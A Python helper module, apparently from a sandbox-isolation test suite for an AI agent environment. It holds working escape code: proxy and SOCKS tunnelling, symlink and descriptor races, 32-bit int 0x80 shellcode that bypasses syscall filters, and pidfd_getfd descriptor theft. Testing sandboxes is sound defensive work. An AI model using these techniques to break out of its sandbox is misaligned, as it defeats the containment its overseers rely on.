# What the attempts in Python share. The facts (W, O, H, NONCE, ...) stand before this text.
import ctypes, fcntl, mmap, os, platform, signal, socket, struct, sys, threading, time

libc = ctypes.CDLL(None, use_errno=True)
X86 = {'ptrace': 101, 'process_vm_readv': 310, 'process_vm_writev': 311, 'pidfd_getfd': 438, 'tgkill': 234,
       'rt_sigqueueinfo': 129, 'shmget': 29, 'shmctl': 31, 'clone': 56, 'clone3': 435, 'fsopen': 430, 'add_key': 248,
       'keyctl': 250, 'request_key': 249, 'bpf': 321, 'userfaultfd': 323, 'name_to_handle_at': 303,
       'open_by_handle_at': 304, 'io_uring_setup': 425, 'perf_event_open': 298, 'renameat2': 316,
       'fanotify_init': 300, 'kexec_load': 246}
ARM = {'ptrace': 117, 'process_vm_readv': 270, 'process_vm_writev': 271, 'pidfd_getfd': 438, 'tgkill': 131,
       'rt_sigqueueinfo': 138, 'shmget': 194, 'shmctl': 195, 'clone': 220, 'clone3': 435, 'fsopen': 430, 'add_key': 217,
       'keyctl': 219, 'request_key': 218, 'bpf': 280, 'userfaultfd': 282, 'name_to_handle_at': 264,
       'open_by_handle_at': 265, 'io_uring_setup': 425, 'perf_event_open': 241, 'renameat2': 276,
       'fanotify_init': 262, 'kexec_load': 104}
NUMBER = X86 if platform.machine() == 'x86_64' else ARM

def call(name, *arguments):
    """A system call by its name; a failure is said and raised."""
    wide = [ctypes.c_long(a) if isinstance(a, int) else a for a in arguments]
    result = libc.syscall(ctypes.c_long(NUMBER[name]), *wide)
    if result == -1:
        raise OSError(ctypes.get_errno(), f'{name}: {os.strerror(ctypes.get_errno())}')
    return result

def said(what):
    """Prints bytes, or what a descriptor has to read from its beginning."""
    print(what if isinstance(what, bytes) else os.pread(what, 4096, 0))

def tell(address):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(2)
    s.connect(address)
    s.send(NONCE.encode())

def late(path, how=tell):
    """Asks for the socket, and talks to it when it is there."""
    open(W + '/ready', 'w').close()
    for _ in range(150):
        if os.path.exists(path):
            time.sleep(0.1)  # It has its name before it listens.
            return how(path)
        time.sleep(0.02)
    raise OSError('it never came')

def proxy():
    """A connection to the proxy that the command was given, if it was given one."""
    return way('HTTP_PROXY')

def way(variable):
    url = os.environ.get(variable)
    if url:
        host, port = url.split('//')[1].split('/')[0].rsplit(':', 1)
        s = socket.create_connection((host, int(port)), 3)
        s.settimeout(3)
        return s

def out(host, port):
    """By a tunnel of the proxy to a host; straight there where no proxy is in between."""
    s = proxy()
    if s:
        s.send(f'CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n'.encode())
        print(s.recv(400))
    else:
        s = socket.create_connection((host.strip('[].').split('%')[0], port), 2)
    s.send(NONCE.encode())

def ask(request, port=None, variable='HTTP_PROXY'):
    """Sends a request to the proxy, or to a server on this machine where no proxy is in between."""
    s = way(variable) or socket.create_connection(('127.0.0.1', port), 2)
    s.send(request.encode())
    try:
        print(s.recv(400))
    except OSError as problem:
        print(problem)
    return s

def relay(request, port):
    ask(request, port, 'ANTHROPIC_BASE_URL')

def socks(command, address, port, datagram=False, listen=False):
    """By SOCKS5; straight there where no proxy is in between."""
    s = proxy()
    if s:
        s.send(b'\x05\x01\0')
        print(s.recv(2))
        s.send(b'\x05' + bytes([command]) + b'\0' + address + struct.pack('!H', port))
        answer = s.recv(40)
        print(answer)
        if datagram:
            to = struct.unpack('!H', answer[8:10])[0]
            u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            u.sendto(b'\0\0\0' + address + struct.pack('!H', port) + NONCE.encode(), ('127.0.0.1', to))
        if listen:
            print(s.recv(40))
    elif datagram:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(NONCE.encode(), ('127.0.0.1', port))
        return
    elif listen:
        door = socket.socket()
        door.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        door.bind(('127.0.0.1', port))
        door.listen()
        door.settimeout(1.5)
        s, _ = door.accept()
    else:
        s = socket.create_connection(('127.0.0.1', port), 2)
    s.send(NONCE.encode())

def datagram():
    return socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)

def local_address(path):
    return struct.pack('=H', socket.AF_UNIX) + path.encode().ljust(108, b'\0')

def send_many(s, path):
    """`sendmmsg` with the name of a receiver."""
    name, body = (ctypes.create_string_buffer(text) for text in (local_address(path), NONCE.encode()))
    part = iov_struct(ctypes.addressof(body), len(NONCE))
    head = struct.pack('@PIxxxxPNPNixxxxIxxxx', ctypes.addressof(name), 110, ctypes.addressof(part), 1, 0, 0, 0, 0)
    print(libc.sendmmsg(s.fileno(), ctypes.create_string_buffer(head), 1, 0), ctypes.get_errno())

def race(swap, attempt):
    """Until the attempt wins, or for a second."""
    over = time.time() + 1
    def swapping():
        while time.time() < over:
            swap()
    thread = threading.Thread(target=swapping)
    thread.start()
    while time.time() < over:
        try:
            if attempt():
                over = 0
        except OSError:
            pass
    thread.join()

def own_server(path):
    s = socket.socket(socket.AF_UNIX)
    s.bind(path)
    s.listen(4000)
    return s

def race_of_addresses(path):
    """One address leads to a socket of its own and to the other in turn."""
    own, names = own_server('own.sock'), [local_address(p) for p in ('own.sock', path)]
    address = ctypes.create_string_buffer(110)
    def attempt():
        s = socket.socket(socket.AF_UNIX)
        if libc.connect(s.fileno(), address, 110) == 0:
            s.send(NONCE.encode())
            return s.getpeername() == path
    race(lambda: [ctypes.memmove(address, name, 110) for name in names], attempt)

def race_of_descriptors(path):
    """One descriptor is an internet socket and a local one in turn, and so is the address."""
    tcp, local = socket.socket(), socket.socket(socket.AF_UNIX)
    place = os.dup(tcp.fileno())
    inner = (struct.pack('=H', 2) + struct.pack('!H', 9) + b'\x7f\0\0\1').ljust(110, b'\0')
    address = ctypes.create_string_buffer(110)
    def swap():
        for fd, name in ((tcp.fileno(), inner), (local.fileno(), local_address(path))):
            os.dup2(fd, place)
            ctypes.memmove(address, name, 110)
    def attempt():
        libc.connect(place, address, 110)
        return local.send(NONCE.encode())
    race(swap, attempt)

def race_of_ways(path):
    """A link leads to a directory of its own and to the other in turn."""
    os.mkdir('in')
    own, (directory, name) = own_server('in/' + os.path.basename(path)), os.path.split(path)
    def swap():
        for target in ('in', directory):
            os.symlink(target, 'next')
            os.rename('next', 'way')
    def attempt():
        s = socket.socket(socket.AF_UNIX)
        s.connect('way/' + name)
        s.send(NONCE.encode())
        return s.getpeername() == path
    race(swap, attempt)

def thirty_two_bit_connect(path):
    """`connect` by int 0x80: the table of 32-bit calls, whose filters are others."""
    s = socket.socket(socket.AF_UNIX)
    libc.mmap.restype = ctypes.c_void_p
    low = libc.mmap(None, 4096, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, -1, 0)
    ctypes.memmove(low, local_address(path), 110)
    code = b'\x53\xb8' + struct.pack('<I', 362) + b'\xbb' + struct.pack('<I', s.fileno()) + b'\xb9' + struct.pack('<I', low) + b'\xba' + struct.pack('<I', 110) + b'\xcd\x80\x5b\xc3'
    ctypes.memmove(low + 128, code, len(code))
    print(ctypes.CFUNCTYPE(ctypes.c_int)(low + 128)())
    s.send(NONCE.encode())

class iov_struct(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]

def iov(address, length):
    return ctypes.byref(iov_struct(address, length))

def open_by_handle(path, flags):
    handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0) + bytes(128))
    mount = ctypes.c_int()
    call('name_to_handle_at', -100, path.encode(), handle, ctypes.byref(mount), 0)
    return call('open_by_handle_at', os.open('/', os.O_RDONLY), handle, flags)

def libc_mmap(fd):
    libc.mmap.restype = ctypes.c_void_p
    return libc.mmap(None, 4096, mmap.PROT_READ, mmap.MAP_PRIVATE, fd, 0)

def race_of_links():
    open('plain', 'w').close()
    over = time.time() + 0.7
    def swap():
        while time.time() < over:
            for target in ('plain', O + '/file'):
                try:
                    os.symlink(target, 'next')
                    os.rename('next', 'name')
                except OSError:
                    pass
    thread = threading.Thread(target=swap)
    thread.start()
    while time.time() < over:
        try:
            with open('name', 'a') as file:
                file.write('x')
        except OSError:
            pass
    thread.join()

def thirty_two_bit_unshare():
    """`unshare(CLONE_NEWUSER)` by int 0x80, which enters the table of 32-bit calls."""
    code = bytes([0x53, 0xb8]) + struct.pack('<I', 310) + bytes([0xbb]) + struct.pack('<I', 0x10000000) + b'\xcd\x80\x5b\xc3'
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    print(ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))())
    time.sleep(0.4)


def steal(process):
    """Prints what can be read from the descriptors of a process."""
    whole = os.pidfd_open(process)
    for number in range(3, 16):
        try:
            said(call('pidfd_getfd', whole, number, 0))
        except OSError as problem:
            print('refused:', problem)

